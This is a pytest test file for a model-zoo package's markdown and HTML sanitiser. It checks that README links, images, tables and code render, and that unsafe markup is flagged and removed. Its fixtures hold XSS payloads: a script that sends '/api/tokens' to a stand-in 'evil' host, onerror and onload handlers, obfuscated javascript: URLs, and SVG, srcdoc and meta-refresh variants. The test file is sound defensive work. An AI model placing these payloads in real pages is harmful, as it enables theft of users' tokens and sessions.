"""Package documentation on a zoo page: what a README holds is shown, what is removed is said."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from microzoo.zoo.markdown import dropped_markdown, render_markdown, unsafe_html, unsafe_markdown

README = """# U-Net for nuclei

A 2-D U-Net trained on [DSB 2018](https://www.kaggle.com/c/data-science-bowl-2018) nuclei.

![cover](cover0.png "test input and output")

## Validation

| metric | value |
|:-------|------:|
| F1 at IoU 0.5 | **0.91** |

- fluorescence and ~~brightfield~~ images
- see [training details](docs/training.md#data) and [above](#validation)

```python
microzoo predict affable-shark image.tif -o out.tif
```

<details><summary>Citation</summary>

> Ronneberger et al., *U-Net*, MICCAI 2015. Mail <a href="mailto:lab@example.org">the lab</a>.

</details>

<img src="docs/figure.png" alt="figure" width="300">
"""


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: dict[str, list[str]] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            self.attributes.setdefault(name, []).append(value or "")


def elements(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    return parser


def test_a_readme_keeps_its_headings_links_images_tables_and_code() -> None:
    assert unsafe_markdown(README) == [] and dropped_markdown(README) == []
    html = render_markdown(README, resolve_url=lambda path: f"/artifacts/affable-shark/files/{path}")
    found = elements(html)
    for tag in ("h1", "h2", "a", "img", "table", "th", "td", "strong", "ul", "li", "s", "pre", "code",
                "details", "summary", "blockquote", "em"):  # fmt: skip
        assert tag in found.tags, tag
    assert found.attributes["href"] == [
        "https://www.kaggle.com/c/data-science-bowl-2018",
        "/artifacts/affable-shark/files/docs/training.md#data",
        "#validation",
        "mailto:lab@example.org",
    ]
    assert found.attributes["src"] == [
        "/artifacts/affable-shark/files/cover0.png",
        "/artifacts/affable-shark/files/docs/figure.png",
    ]
    assert found.attributes["alt"] == ["cover", "figure"] and found.attributes["width"] == ["300"]
    assert found.attributes["style"] == ["text-align:left", "text-align:right"] * 2
    assert 'class="language-python"' in html
    assert "microzoo predict affable-shark image.tif -o out.tif" in html
    text = re.sub(r"<[^>]+>", "", html)
    for words in ("U-Net for nuclei", "0.91", "Ronneberger et al.", "the lab", "Citation"):
        assert words in text, words


def test_without_a_resolver_relative_links_stay_as_written() -> None:
    html = render_markdown("![c](cover.png) [d](docs/a.md)")
    assert 'src="cover.png"' in html and 'href="docs/a.md"' in html


HOSTILE = """# Title

<script>fetch("/api/tokens").then(r => r.text()).then(t => new Image().src = "//evil/?" + t)</script>
<img src="x.png" onerror="alert(1)">

[click](javascript:alert(2)) and <a href="java&#x09;script:alert(3)">this</a> and [ref][r]

[r]: vbscript:msgbox

<a href="data:text/html;base64,PHNjcmlwdD4=">data</a>
"""


def test_everything_unsafe_is_named_and_none_of_it_is_rendered() -> None:
    unsafe = unsafe_markdown(HOSTILE)
    assert unsafe == [
        "a <script> element",
        "an event-handler attribute onerror= on <img>",
        "a javascript: URL (href on <a>) (2 times)",
        "a vbscript: URL (href on <a>)",
        "a data: URL (href on <a>)",
    ]
    found = elements(render_markdown(HOSTILE))
    assert "script" not in found.tags and not any(name.startswith("on") for name in found.attributes)
    links = found.attributes.get("href", []) + found.attributes.get("src", [])
    assert links == ["x.png"]  # every hostile link lost its URL (its text stays, inert)


def test_harmless_markup_the_page_drops_is_listed() -> None:
    text = (
        '<iframe src="https://youtube.com/embed/x"></iframe>\n\n<p style="color:red" id="x">red</p>\n\n'
        '<img src="data:image/png;base64,iVBORw0KGgo=">\n'
    )
    assert unsafe_markdown(text) == []
    assert dropped_markdown(text) == [
        "the element <iframe> (its text is kept)",
        "the attribute style= on <p>",
        "the attribute id= on <p>",
        "a data: URL (src on <img>)",
    ]
    html = render_markdown(text)
    assert "<iframe" not in html and "style=" not in html and "id=" not in html and "data:" not in html
    assert "red" in html


def test_code_is_shown_not_run() -> None:
    text = "Call it so:\n\n```html\n<script>alert(1)</script>\n```\n\nand `<img onerror=x>` inline.\n"
    assert unsafe_markdown(text) == [] and dropped_markdown(text) == []
    html = render_markdown(text)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "&lt;img onerror=x&gt;" in html


@pytest.mark.parametrize(
    ("document", "found"),
    [
        ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', ["a <script> element"]),
        (
            '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
            ["a javascript: URL (xlink:href on <a>)"],
        ),
        ('<html><body onload="steal()"><p>QC</p></body></html>', ["an event-handler attribute onload= on <body>"]),
        (
            '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
            ["a document inside an attribute (srcdoc= on <iframe>)"],
        ),
        (
            '<meta http-equiv="refresh" content="0;url=https://evil.example">',
            ["a document inside an attribute (http-equiv= on <meta>)"],
        ),
        (
            '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
            ["a javascript: URL (to on <set>)"],
        ),
        ('<html><body><h1>QC report</h1><img src="data:image/png;base64,AAAA"></body></html>', []),
    ],
)
def test_html_and_svg_files_are_checked_for_code(document: str, found: list[str]) -> None:
    assert unsafe_html(document) == found
